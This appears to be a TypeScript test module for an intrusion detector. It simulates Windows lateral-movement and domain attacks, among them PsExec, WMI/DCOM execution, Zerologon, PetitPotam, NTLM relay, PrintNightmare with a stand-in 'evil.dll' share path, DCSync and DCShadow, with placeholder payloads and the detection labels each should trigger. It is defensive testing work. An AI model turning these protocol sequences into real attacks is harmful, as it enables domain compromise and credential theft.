/** Hosts of Windows that act on others, and attacks on their domain. */
import { join, le, type Part, wide } from '../talks/words.ts';
import { A, type Attack, B, C, D, text, zeros } from './attack.ts';
import type { Scene } from './scene.ts';
import { guid, IDS, map, overTcp, Smb2, type Style } from './windows.ts';

function psexec(scene: Scene, from: string, to: string, style: Style = {}, share = 'ADMIN$'): void {
  const smb = new Smb2(scene.tcp(from, to, 445));
  smb.tree(`\\\\${to}\\${share}`);
  const file = smb.create('qWeRtYui.exe');
  smb.write(file, join('MZ', zeros(3000))).write(file, zeros(3000), 3002);
  smb.tree(`\\\\${to}\\IPC$`);
  const services = smb.pipe('svcctl', IDS.svcctl, style);
  services
    .call(15, text(to), { stub: zeros(20) })
    .call(12, join(zeros(20), text('hjGk'), zeros(60)), { stub: zeros(24) });
  services.call(19, zeros(28));
  smb.create('RemCom_communicaton');
  smb.link.close();
}

function zerologon(scene: Scene, isPatched: boolean, style: Style = {}): void {
  map(scene, A, B);
  const calls = overTcp(scene.tcp(A, B, 49_670), IDS.netlogon, style);
  const { isBig = false } = style;
  const n = (value: number): Buffer => (isBig ? le(value, 4).reverse() : le(value, 4));
  const name = (word: string): Buffer => {
    const spelled = wide(`${word}\0`);
    const all = isBig ? Buffer.from(spelled).swap16() : spelled;
    return join(n(word.length + 1), n(0), n(word.length + 1), all, zeros((4 - (all.length % 4)) % 4));
  };
  const unaligned = (word: string): Buffer => name(word).subarray(0, 12 + (word.length + 1) * 2);
  for (let i = 0; i < 12; i++) {
    calls.call(4, join(n(1), name('\\\\DC01'), unaligned('DC01'), zeros(8)), { stub: Buffer.alloc(8, 3) });
    const credential = join(
      n(1),
      name('\\\\DC01'),
      unaligned('DC01$'),
      [6, 0],
      zeros((4 - ((unaligned('DC01$').length + 2) % 4)) % 4),
      unaligned('DC01'),
      zeros(8),
      n(0x212fffff),
    );
    calls.call(26, credential, { stub: Buffer.alloc(16, 3), status: isPatched || i < 11 ? 0xc0000022 : 0 });
  }
  if (!isPatched) calls.call(30, zeros(600), { stub: zeros(12) });
}

function wmi(scene: Scene, style: Style, octets: number, stub: Part = zeros(400)): void {
  map(scene, A, B);
  const link = scene.tcp(A, B, 135);
  overTcp(link, IDS.activator, style).call(4, zeros(700), { octets: 900, stub: zeros(896) });
  const bound = scene.tcp(A, B, 49_700);
  overTcp(bound, IDS.wmiLogin, style).call(6, zeros(200), { octets: 120, stub: zeros(116) });
  const wbem = overTcp(scene.tcp(A, B, 49_700), IDS.wmi, style);
  wbem.call(6, zeros(100), { octets: 4000, stub: zeros(3996) });
  wbem.call(24, stub, { octets, stub: zeros(octets - 4), status: octets < 100 && !style.isSealed ? 0x80041003 : 0 });
}

const coerced = (name: string, pipe: string, id: string, operation: number, goes: string, status: number): Attack => ({
  name,
  play: (scene) => {
    const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
    const calls = smb.pipe(pipe, id);
    if (id === IDS.winspool) calls.call(1, text(`\\\\${B}`), { stub: zeros(20) });
    calls.call(operation, text(`\\\\${goes}\\share\\file`), { status });
    if (goes !== '') new Smb2(scene.tcp(B, goes, 445), 'DC01$');
  },
  found: [`credential.coercion ${goes === '' ? (status === 5 ? 'failed' : 'attempted') : 'succeeded'} ${A}>${B}`],
});

export const MOVEMENT: readonly Attack[] = [
  {
    name: 'PsExec',
    play: (scene) => psexec(scene, A, B),
    found: [`lateral.psexec succeeded ${A}>${B}`],
  },
  {
    name: 'PsExec by writing and reading, in fragments, over IPv6',
    play: (scene) => psexec(scene, 'fd00::1', 'fd00::2', { by: 'write', fragment: 48 }, 'C$'),
    found: [`lateral.psexec succeeded fd00::1>fd00::2`],
  },
  {
    name: 'PsExec from host to host: a worm',
    play: (scene) => {
      psexec(scene, A, B);
      scene.wait(9);
      psexec(scene, B, C);
      scene.wait(9);
      psexec(scene, C, D);
    },
    found: [`worm.spread succeeded ${A},${B},${C}>${B},${C},${D}`],
  },
  {
    name: 'a service made over TCP, enciphered, as sc.exe does',
    play: (scene) => {
      map(scene, A, B);
      const calls = overTcp(scene.tcp(A, B, 49_671), IDS.svcctl, { isSealed: true });
      calls.call(15, zeros(40), { octets: 24 }).call(12, zeros(200), { octets: 28 }).call(19, zeros(28), { octets: 4 });
    },
    found: [`lateral.psexec succeeded ${A}>${B}`],
  },
  {
    name: 'smbexec: a service that does not answer its start',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      smb
        .pipe('svcctl', IDS.svcctl)
        .call(15, [], { stub: zeros(20) })
        .call(12, zeros(300), { stub: zeros(24) })
        .call(19, zeros(28), { status: 1053 })
        .call(2, zeros(20));
    },
    found: [`lateral.psexec succeeded ${A}>${B}`],
  },
  {
    name: 'a service that may not be made',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      smb
        .pipe('svcctl', IDS.svcctl)
        .call(15, [], { stub: zeros(20) })
        .call(12, zeros(300), { stub: zeros(24), status: 5 });
    },
    found: [`lateral.psexec failed ${A}>${B}`],
  },
  {
    name: 'atexec: a task, enciphered in the pipe',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      smb
        .pipe('atsvc', IDS.tasks, { isSealed: true })
        .call(1, zeros(2000), { octets: 60 })
        .call(12, zeros(80), { octets: 24 });
    },
    found: [`lateral.scheduled-task succeeded ${A}>${B}`],
  },
  {
    name: 'a task that is refused, enciphered over TCP',
    play: (scene) =>
      void overTcp(scene.tcp(A, B, 49_672), IDS.tasks, { isSealed: true }).call(1, zeros(2000), { octets: 12 }),
    found: [`lateral.scheduled-task failed ${A}>${B}`],
  },
  {
    name: 'wmiexec, enciphered',
    play: (scene) => wmi(scene, { isSealed: true }, 700),
    found: [`lateral.wmi succeeded ${A}>${B}`],
  },
  {
    name: 'wmiexec in the clear',
    play: (scene) => wmi(scene, {}, 700, join(zeros(60), wide('Win32_Process'), zeros(60), wide('Create'), zeros(300))),
    found: [`lateral.wmi succeeded ${A}>${B}`],
  },
  {
    name: 'wmiexec that is refused, enciphered',
    play: (scene) => wmi(scene, { isSealed: true }, 24),
    found: [`lateral.wmi failed ${A}>${B}`],
  },
  {
    name: 'dcomexec, enciphered',
    play: (scene) => {
      overTcp(scene.tcp(A, B, 135), IDS.activator, { isSealed: true }).call(4, zeros(700), { octets: 900 });
      overTcp(scene.tcp(A, B, 49_703), IDS.dispatch, { isSealed: true })
        .call(5, zeros(90), { octets: 40 })
        .call(6, zeros(90), { octets: 140 });
    },
    found: [`lateral.dcom succeeded ${A}>${B}`],
  },
  ...(
    [
      '49b2791a-b1ae-4c90-9b8e-e860ba07f889',
      '9ba05972-f6a8-11cf-a442-00a0c90a8f39',
      'c08afd90-f2a1-11d1-8455-00a0c91f3880',
    ] as const
  ).map(
    (identifier): Attack => ({
      name: `DCOM in the clear, class ${identifier.slice(0, 8)}`,
      play: (scene) => {
        const id = guid(identifier);
        overTcp(scene.tcp(A, B, 135), IDS.activator).call(4, join(zeros(300), id, zeros(300)), { stub: zeros(800) });
        overTcp(scene.tcp(A, B, 49_704), IDS.dispatch).call(6, zeros(90), { stub: zeros(60) });
      },
      found: [`lateral.dcom succeeded ${A}>${B}`],
    }),
  ),
  {
    name: 'the registry changed from afar, enciphered',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      smb
        .pipe('winreg', IDS.winreg, { isSealed: true })
        .call(2, zeros(12), { octets: 24 })
        .call(22, zeros(90), { octets: 4 });
    },
    found: [`lateral.registry succeeded ${A}>${B}`],
  },
  {
    name: 'secrets dumped by the registry, beside another pipe',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      const registry = smb.pipe('winreg', IDS.winreg);
      const services = smb.pipe('svcctl', IDS.svcctl);
      registry.call(2, zeros(12), { stub: zeros(20) }).call(20, zeros(90));
      services.call(0, zeros(20));
      smb.tree(`\\\\${B}\\ADMIN$`);
      smb.read(smb.create('Temp\\aBcDeFgH.tmp'), zeros(5000));
    },
    found: [`credential.dump succeeded ${A}>${B}`],
  },
  { name: 'Zerologon', play: (scene) => zerologon(scene, false), found: [`credential.zerologon succeeded ${A}>${B}`] },
  {
    name: 'Zerologon in the other byte order',
    play: (scene) => zerologon(scene, false, { isBig: true }),
    found: [`credential.zerologon succeeded ${A}>${B}`],
  },
  {
    name: 'Zerologon against a patched controller',
    play: (scene) => zerologon(scene, true),
    found: [`credential.zerologon failed ${A}>${B}`],
  },
  coerced('PetitPotam, and the host comes', 'lsarpc', IDS.efsrpc, 0, C, 0x35),
  coerced('PetitPotam, and nobody comes', 'efsrpc', IDS.efsrpc, 4, '', 5),
  coerced('PrinterBug', 'spoolss', IDS.winspool, 65, A, 1722),
  coerced('DFSCoerce', 'netdfs', IDS.netdfs, 13, A, 5),
  coerced('ShadowCoerce', 'FssagentRpc', IDS.shadow, 9, A, 0x80042308),
  {
    name: 'a sign-in passed on',
    play: (scene) => {
      const lured = scene.tcp(C, A, 445);
      new Smb2(scene.tcp(A, B, 445), 'chief', 0, 'WS-3').tree(`\\\\${B}\\ADMIN$`);
      // The challenge that is passed on is that of the server.
      new Smb2(lured, 'chief', 0, 'WS-3', 'FS-2');
    },
    found: [`credential.ntlm-relay succeeded ${A}>${B}`],
  },
  {
    name: 'PrintNightmare',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      smb
        .pipe('spoolss', IDS.winspool)
        .call(89, join(text(`\\\\${B}`), zeros(40), text('1234'), text('\\\\10.0.0.1\\share\\evil.dll'), zeros(20)));
    },
    found: [`exploit.other succeeded ${A}>${B}`],
  },
  {
    name: 'DCSync by a host that is no controller',
    play: (scene) => {
      map(scene, A, B);
      const calls = overTcp(scene.tcp(A, B, 49_667), IDS.drsuapi, { isSealed: true });
      calls
        .call(0, zeros(60), { octets: 80 })
        .call(16, zeros(60), { octets: 600 })
        .call(12, zeros(100), { octets: 200 })
        .call(3, zeros(300), { octets: 3000 });
    },
    found: [`credential.dcsync succeeded ${A}>${B}`],
  },
  {
    name: 'DCSync that is refused',
    play: (scene) => {
      const calls = overTcp(scene.tcp(A, B, 49_667), IDS.drsuapi, { isSealed: true });
      calls
        .call(0, zeros(60), { octets: 80 })
        .call(12, zeros(100), { octets: 200 })
        .call(3, zeros(300), { octets: 160 });
    },
    found: [`credential.dcsync failed ${A}>${B}`],
  },
  {
    name: 'a program copied to a share for administrators, and what is done about traces',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\C$`);
      smb.write(smb.create('Windows\\Temp\\a.exe'), join('MZ', zeros(3000)));
      smb.tree(`\\\\${B}\\IPC$`).pipe('eventlog', IDS.eventlog).call(0, zeros(40));
      smb.pipe('initshutdown', IDS.shutdown).call(0, zeros(40));
      smb.pipe('samr', IDS.samr).call(50, zeros(80), { stub: zeros(28) });
    },
    found: [
      `lateral.program attempted ${A}>${B}`,
      `evasion.log-cleared succeeded ${A}>${B}`,
      `impact.shutdown succeeded ${A}>${B}`,
      `persistence.account succeeded ${A}>${B}`,
    ],
  },
  {
    name: 'accounts counted through by their identifiers',
    play: (scene) => {
      const smb = new Smb2(scene.tcp(A, B, 445)).tree(`\\\\${B}\\IPC$`);
      smb.pipe('lsarpc', IDS.lsarpc).call(57, join(zeros(20), le(1000, 4), zeros(400)), { stub: zeros(90) });
    },
    found: [`discovery.accounts attempted ${A}>${B}`],
  },
  {
    name: 'DCShadow',
    play: (scene) => {
      const calls = overTcp(scene.tcp(A, B, 49_667), IDS.drsuapi, { isSealed: true });
      calls.call(0, zeros(60), { octets: 80 }).call(17, zeros(900), { octets: 90 }).call(5, zeros(100), { octets: 4 });
      overTcp(scene.tcp(B, A, 50_200), IDS.drsuapi, {
        isSealed: true,
        ticket: 'E3514235-4B06-11D1-AB04-00C04FC2DCD2/x',
      }).call(3, zeros(300), { octets: 3000 });
    },
    found: [`credential.dcshadow succeeded ${A}>${B}`],
  },
];
